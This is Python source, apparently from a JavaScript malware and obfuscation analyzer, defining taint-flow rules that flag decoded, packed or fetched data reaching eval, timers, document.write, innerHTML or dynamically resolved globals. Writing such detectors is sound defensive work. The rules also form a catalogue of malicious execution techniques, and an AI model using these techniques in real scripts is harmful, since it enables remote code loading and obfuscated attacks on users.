    def to_json(self, indent: int | None = 2) -> str:
        return json.dumps(self.to_dict(), indent=indent)

    @classmethod
    def from_dict(cls, data: dict[str, Any]) -> "AnalysisReport":
        return cls(
            name=data.get("name", "<script>"),
            findings=[Finding.from_dict(f) for f in data.get("findings", [])],
            score=data.get("score", 0.0),
            decisive=data.get("decisive", False),
            parse_ok=data.get("parse_ok", True),
            error=data.get("error"),
            suppressed=data.get("suppressed", 0),
            suppressed_at=list(data.get("suppressed_at", [])),
            elapsed_ms=data.get("elapsed_ms", 0.0),
            dataflow_ms=data.get("dataflow_ms", 0.0),
        )

    @classmethod
    def from_json(cls, text: str) -> "AnalysisReport":
        return cls.from_dict(json.loads(text))


def combine_score(weights: list[float]) -> float:
    """Noisy-or combination: ``1 - Π(1 - w)``, clamped to [0, 1)."""
    remaining = 1.0
    for weight in weights:
        remaining *= 1.0 - max(0.0, min(weight, 0.999))
    return 1.0 - remaining
