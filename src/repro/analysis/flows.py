"""Flow rules: findings produced from the interprocedural taint engine.

Each rule is a (sink kinds × source labels) slice of the engine's flow
set.  The engine runs at most once per script (shared through
``RuleContext.taints``) and only when the cheap syntactic gate saw a
potential sink during the AST walk, so scripts with no ``eval``-family
call, tainted-assignment target, or dynamic-dispatch member never pay
for the fixpoint.

The rewritten ``decode-chain`` rule lives here: same id, same decisive
contract as the PR 3 catalog rule, but backed by the monotone framework
— it now follows flows across function boundaries and emits the full
source→sink witness instead of a one-line message.
"""

from __future__ import annotations

from repro.jsparser import ast_nodes as ast

from .catalog import SINK_NAMES, _call_name
from .dataflow.witness import witness_dicts
from .rules import Rule, RuleContext

#: Shared gate state: did the walk see anything that could be a sink?
_GATE_KEY = "flow:sinks-present"
#: Only one flow-rule instance performs the gate checks per script.
_GATE_OWNER_KEY = "flow:gate-owner"

_ASSIGN_SINK_PROPS = frozenset({"innerHTML", "outerHTML", "src"})
_DISPATCH_ROOTS = frozenset({"window", "globalThis", "self", "top", "document"})


def _member_root_name(node: ast.Node) -> str | None:
    current = node
    while current.type == "MemberExpression":
        current = current.object
    if current.type == "Identifier":
        return str(current.name)
    return None


def _is_potential_sink(node: ast.Node) -> bool:
    type_ = node.type
    if type_ in ("CallExpression", "NewExpression"):
        return _call_name(node) in SINK_NAMES
    if type_ == "AssignmentExpression":
        left = node.left
        if left.type != "MemberExpression":
            return False
        prop = left.property
        if not left.computed and prop.type == "Identifier" and prop.name in _ASSIGN_SINK_PROPS:
            return True
        if left.computed and prop.type != "Literal":
            return _member_root_name(left.object) in _DISPATCH_ROOTS
        return False
    if type_ == "MemberExpression":
        if not node.computed or node.property.type == "Literal":
            return False
        return _member_root_name(node.object) in _DISPATCH_ROOTS
    return False


class FlowRule(Rule):
    """Base for taint-flow rules: match engine flows by sink kind/label."""

    node_types = ("CallExpression", "NewExpression", "AssignmentExpression", "MemberExpression")
    #: Sink kinds (from the taint catalog) this rule reports.
    sink_kinds: tuple[str, ...] = ()
    #: Source labels this rule reports; empty means any label.
    source_labels: tuple[str, ...] = ()

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        if ctx.state.get(_GATE_KEY):
            return
        owner = ctx.state.setdefault(_GATE_OWNER_KEY, id(self))
        if owner != id(self):
            return
        if _is_potential_sink(node):
            ctx.state[_GATE_KEY] = True

    def describe_flow(self, label: str, sink_name: str, hops: int) -> str:
        return f"{label} data reaches {sink_name} through {hops} hops"

    def finish(self, ctx: RuleContext) -> None:
        if not ctx.state.get(_GATE_KEY):
            return
        result = ctx.taints
        if result.degraded:
            return  # the legacy syntactic rules still provide coverage
        seen: set[tuple[int, int, str]] = set()
        for flow in result.flows:
            if flow.kind not in self.sink_kinds:
                continue
            if self.source_labels and flow.label not in self.source_labels:
                continue
            sink_key = (flow.line, flow.col, flow.kind)
            if sink_key in seen:
                continue  # one finding per sink site per rule
            seen.add(sink_key)
            witness = witness_dicts(flow.hops, ctx.lines)
            ctx.report(
                self,
                line=flow.line,
                col=flow.col,
                message=self.describe_flow(flow.label, flow.sink_name, len(flow.hops)),
                witness=witness,
            )


class DecodeChainFlowRule(FlowRule):
    """Decoded data executing: the PR 3 decisive rule, now interprocedural."""

    id = "decode-chain"
    severity = "error"
    decisive = True
    description = "string-decode output flows into a dynamic code sink"
    sink_kinds = ("eval",)
    source_labels = ("decode",)

    def describe_flow(self, label: str, sink_name: str, hops: int) -> str:
        return f"decoded data reaches {sink_name} ({hops}-hop witness)"


class DecodeToTimerRule(FlowRule):
    id = "flow-decode-to-timer"
    severity = "error"
    decisive = True
    description = "string-decode output becomes a timer's string argument (implicit eval)"
    sink_kinds = ("timer",)
    source_labels = ("decode",)


class DecodeToWriteRule(FlowRule):
    id = "flow-decode-to-write"
    severity = "error"
    decisive = True
    description = "string-decode output is written into the document at parse time"
    sink_kinds = ("document-write",)
    source_labels = ("decode",)


class HexSoupToSinkRule(FlowRule):
    id = "flow-hexsoup-to-sink"
    severity = "error"
    decisive = True
    description = "a packed (hex-soup/high-entropy) literal flows into a code sink"
    sink_kinds = ("eval", "timer", "document-write")
    source_labels = ("hexsoup",)


class LocationToEvalRule(FlowRule):
    id = "flow-location-to-eval"
    severity = "error"
    decisive = False  # DOM-XSS-prone but occurs in legitimate routers
    description = "URL-controlled location data reaches a code sink"
    sink_kinds = ("eval", "timer")
    source_labels = ("location",)


class XhrToEvalRule(FlowRule):
    id = "flow-xhr-to-eval"
    severity = "error"
    decisive = True
    description = "a fetched response payload is executed (remote code loading)"
    sink_kinds = ("eval", "timer", "document-write")
    source_labels = ("xhr",)


class TaintedInnerHtmlRule(FlowRule):
    id = "flow-tainted-innerhtml"
    severity = "warning"
    description = "tainted data assigned to innerHTML/outerHTML"
    sink_kinds = ("innerhtml",)


class TaintedSrcRule(FlowRule):
    id = "flow-tainted-src"
    severity = "warning"
    description = "tainted data redirects a resource load via .src"
    sink_kinds = ("element-src",)


class TaintedDispatchRule(FlowRule):
    """The obfuscator.io signature: a global API resolved through a key
    computed from a string-array table / decoded data — the eval family's
    obfuscated cousin, which the syntactic catalog cannot see."""

    id = "flow-tainted-dispatch"
    severity = "error"
    decisive = True
    description = "a tainted computed key resolves a global API dynamically"
    sink_kinds = ("dynamic-dispatch",)
    source_labels = ("string-array", "decode", "hexsoup", "xhr")


def flow_rules() -> list[Rule]:
    """Fresh instances of every engine-backed flow rule."""
    return [
        DecodeChainFlowRule(),
        DecodeToTimerRule(),
        DecodeToWriteRule(),
        HexSoupToSinkRule(),
        LocationToEvalRule(),
        XhrToEvalRule(),
        TaintedInnerHtmlRule(),
        TaintedSrcRule(),
        TaintedDispatchRule(),
    ]
